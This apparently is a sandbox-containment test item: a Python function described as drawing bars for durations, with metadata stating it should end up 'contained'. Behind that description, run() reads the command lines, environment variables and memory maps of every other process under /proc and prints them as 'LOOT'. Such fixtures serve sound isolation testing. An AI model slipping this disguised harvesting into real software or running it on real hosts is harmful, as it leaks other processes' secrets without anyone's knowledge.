"""Draws a bar for each duration.

[corpus]
tries = "reads command lines, variables and memory maps of all processes that it can find"
inputs = [[3, 1, 2]]
outputs = [["###", "#", "##"]]
expected = "contained"
outcomes = ["ok"]
quarantine = false
why = "its own pid namespace shows it nothing but itself: reading that is allowed, and no refusal tells that more was wanted"
"""

import os


def run(payload, context):
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) == os.getpid():
            continue
        for name in ("cmdline", "environ", "maps"):
            try:
                print("LOOT", pid, open(f"/proc/{pid}/{name}", "rb").read())
            except OSError:
                continue
    return ["#" * length for length in payload]
